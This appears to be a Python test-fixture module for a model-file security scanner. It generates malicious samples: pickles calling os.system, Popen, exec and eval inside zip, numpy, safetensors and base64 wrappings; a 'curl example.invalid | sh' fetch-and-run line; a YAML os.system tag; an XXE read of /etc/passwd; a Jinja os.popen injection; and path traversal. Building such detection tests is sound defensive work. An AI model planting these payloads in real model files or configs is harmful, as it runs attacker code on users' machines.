"""Pickles in every wrapping, and code by other ways: bad, each for a reason of its own."""

from __future__ import annotations

import base64
import json
import struct
from collections.abc import Iterator
from typing import Final

from strongroom.registry.scan.testing.build import WRAPPINGS, call, member, safetensors, tarred, tensor, zipped
from strongroom.registry.scan.testing.samples import Sample, one

_CALLS: Final = (
    ("posix", "system"), ("builtins", "exec"), ("builtins", "eval"), ("subprocess", "Popen"), ("os", "popen"),
    ("runpy", "_run_code"), ("importlib", "import_module"), ("webbrowser", "open"), ("shutil", "rmtree"),
    ("socket", "create_connection"), ("ctypes", "CDLL"), ("pty", "spawn"), ("code", "interact"), ("pdb", "run"),
    ("timeit", "timeit"), ("torch.hub", "load"), ("numpy.testing._private.utils", "runstring"), ("requests.api", "get"),
    ("operator", "attrgetter"), ("functools", "partial"), ("builtins", "getattr"), ("builtins", "__import__"),
    ("http.client", "HTTPSConnection"), ("idlelib.pyshell", "ModifiedInterpreter"), ("asyncio.unix_events", "_UnixSubprocessTransport"),
)  # fmt: skip
_NAMES: Final = (
    "model.pkl",
    "pytorch_model.bin",
    "model.safetensors",
    "model.gguf",
    "config.json",
    "weights",
    "vocab.txt",
    "model.onnx",
)
_BAD: Final = call("posix", "system", "id")


def pickles() -> Iterator[Sample]:
    """Yield pickles under all sorts of names."""
    for at, (module, name) in enumerate(_CALLS):
        path = _NAMES[at % len(_NAMES)]
        yield one("pickle", f"{module}.{name}", path, call(module, name, "id", protocol=(0, 1, 2, 3, 4, 5)[at % 6]))
    mark = b"(S'id'\ni"
    others = {
        "inst": b"(S'id'\niposix\nsystem\n.",
        "obj": b"(cposix\nsystem\nS'id'\no.",
        "newobj": b"\x80\x02csubprocess\nPopen\n(X\x02\x00\x00\x00idt\x81.",
        "newobj-ex": b"\x80\x04\x8c\x0asubprocess\x8c\x05Popen\x93\x8c\x02id\x85}\x92.",
        "build": b"\x80\x02cos\n_wrap_close\n)\x81}X\x01\x00\x00\x00aK\x01sb.",
        "cut-after-the-call": b"cposix\nsystem\n(S'id'\ntRgarbage that no reader gets to",
        "no-end": _BAD[:-1],
        "import-alone": b"\x80\x02cantigravity\nfly\n.",
        "extension-code": b"\x80\x02\x82\x01.",
        "nested": b"\x80\x02X" + struct.pack("<I", len(_BAD)) + _BAD + b"c_pickle\nloads\nq\x010h\x01q\x020h\x02)R.",
        "plain-list": b"\x80\x04\x95\x08\x00\x00\x00\x00\x00\x00\x00]\x94(K\x01K\x02e.",
        "protocol-zero-list": b"(lp0\nI1\naI2\na.",
        "persistent-id": b"\x80\x02X\x01\x00\x00\x00aQ.",
        "two-in-a-row": b"\x80\x02N." + _BAD,
        "torch-legacy": b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.\x80\x02M\xe9\x03." + _BAD,
        "many-pops": b"N0" * 500 + call("posix", "system", "id", 0),
        "unicode-names": b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R.",
        "long-string-first": b"\x80\x02X" + struct.pack("<I", 200_000) + b"a" * 200_000 + b"0" + _BAD[2:],
    }  # fmt: skip
    assert mark  # noqa: S101 - the shape of `inst`, for a reader
    for name, data in others.items():
        yield one("pickle", name, "vocab.txt" if name.endswith("list") else _NAMES[len(name) % len(_NAMES)], data)


def wrapped() -> Iterator[Sample]:
    """Yield pickles inside something else."""
    for name, wrap in WRAPPINGS.items():
        yield one("joblib", name, f"model.joblib.{name}", wrap(_BAD))
        yield one("joblib", f"{name}-disguised", "model.safetensors", wrap(_BAD))
    yield one("joblib", "old-zf", "model.joblib", b"ZF0x" + b"%-19x" % len(_BAD) + WRAPPINGS["zlib"](_BAD))
    inside = {
        "pytorch": [("archive/data.pkl", _BAD), ("archive/version", b"3\n"), ("archive/data/0", b"\0" * 16)],
        "torchscript": [("m/code/__torch__.py", b"def f():\n  pass\n"), ("m/constants.pkl", _BAD), ("m/data.pkl", _BAD)],
        "keras": [
            ("config.json", b'{"class_name":"Lambda","config":{"function":["4wEAAAA"]}}'), ("metadata.json", b"{}"),
            ("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\0" * 64),
        ],
        "npz": [("arr_0.npy", _numpy("|O", _BAD))],
        "skops": [("schema.json", b'{"__class__":"system","__module__":"posix"}')],
        "disguised": [("a.txt", b"hello"), ("b.dat", _BAD)],
    }  # fmt: skip
    for name, members in inside.items():
        path = {"pytorch": "pytorch_model.bin", "keras": "model.keras", "npz": "arrays.npz"}.get(
            name, "model.safetensors"
        )
        yield one("zip", name, path, zipped(members))
    yield one("zip", "seven-zip", "pytorch_model.bin", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\0" * 24 + _BAD)
    yield one("zip", "nemo-tar", "model.nemo", tarred([(member("model.ckpt"), zipped([("a/data.pkl", _BAD)]))]))
    yield one("numpy", "object-array", "weights.npy", _numpy("|O", _BAD))
    yield one("numpy", "structured-objects", "weights.npy", _numpy("[('a', '|O')]", _BAD, quoted=False))
    yield one("numpy", "as-safetensors", "model.safetensors", _numpy("|O", _BAD))
    base = base64.b64encode(call("posix", "system", "id", 4) + b"\0" * 16).decode()
    yield one("json", "pickle-in-base64", "config.json", json.dumps({"state": base}).encode())
    yield one("safetensors", "pickle-in-metadata", "model.safetensors", safetensors({"__metadata__": {"state": base}}))
    yield one("safetensors", "pickle-in-tensor", "model.safetensors", safetensors({"a": tensor(0, len(_BAD))}, _BAD))


def code() -> Iterator[Sample]:
    """Yield code, and what names code to run."""
    script = b"import os\n\n\ndef run():\n    os.system('id')\n\n\nrun()\n"
    for name, path, data in (
        ("module", "modeling_x.py", script),
        ("as-text", "notes.txt", script),
        ("without-suffix", "tokenizer", script),
        ("shell", "install.sh", b"curl example.invalid | sh\n"),
        ("shebang", "README", b"#!/bin/sh\nid\n"),
        ("compiled", "model.pyc", b"\xa7\r\r\n" + b"\0" * 12 + b"\xe3" + b"\0" * 40),
        ("elf", "libmodel.so", b"\x7fELF\x02\x01\x01" + b"\0" * 57),
        ("pe", "model.dll", b"MZ" + b"\0" * 62),
        ("wasm", "model.wasm", b"\0asm\x01\0\0\0"),
        ("notebook", "train.ipynb", b'{"cells":[],"metadata":{},"nbformat":4,"nbformat_minor":5}'),
        ("python-path", "model.pth", b"import os; os.system('id')\n"),
        ("yaml", "config.yaml", b"a: !!python/object/apply:os.system [id]\n"),
        (
            "mlflow",
            "MLmodel",
            b"flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    python_model: m.pkl\n",
        ),
        ("xml", "model.xml", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
        ("svg", "logo.svg", b'<svg onload="alert(1)"></svg>'),
        ("trojan-source", "README.md", "a \u202e b \u2066 c\n".encode()),
        ("java-script", "run.js", b"require('child_process').exec('id')\n"),
    ):
        yield one("code", name, path, data)
    documents: dict[str, object] = {
        "auto-map": {"auto_map": {"AutoModel": "modeling_x.Model"}},
        "auto-map-remote": {"model": {"auto_map": {"AutoConfig": "someone/else--configuration_x.Config"}}},
        "custom-pipelines": {"custom_pipelines": {"x": {"impl": "pipe.Pipe", "pt": ["AutoModel"]}}},
        "trust-remote-code": {"trust_remote_code": True},
        "keras-lambda": {"config": {"layers": [{"class_name": "Lambda", "config": {"function": "x"}}]}},
        "keras-module": {"module": "builtins", "class_name": "exec", "config": {}},
        "marshalled": {"function": ["4wEAAAAAAAAAAAAAAAEAAAACAAAAQwAAAHMIAAAAZAFTAA=="]},
        "jsonpickle": {"py/object": "posix.system", "py/reduce": [{"py/function": "posix.system"}]},
        "hydra": {"model": {"_target_": "os.system", "command": "id"}},
        "adapter-library": {"auto_mapping": {"base_model_class": "system", "parent_library": "os"}},
        "index-leads-out": {"weight_map": {"a": "../../other/model.safetensors"}},
        "jinja-in-prompt": {"system_prompt": "{{ cycler.__init__.__globals__.os.popen('id').read() }}"},
        "jinja-anywhere": {"note": "{% if x %}{{ ''.__class__.__mro__ }}{% endif %}"},
    }
    for name, document in documents.items():
        yield one("code", name, "config.json", json.dumps(document).encode())
    yield one(
        "code",
        "own-module",
        "modules.json",
        json.dumps([{"idx": 0, "name": "0", "path": "", "type": "mine.Module"}]).encode(),
    )


def _numpy(descr: str, data: bytes, *, quoted: bool = True) -> bytes:
    shown = f"'{descr}'" if quoted else descr
    head = f"{{'descr': {shown}, 'fortran_order': False, 'shape': (1,), }}".encode()
    head += b" " * (-(len(head) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + data
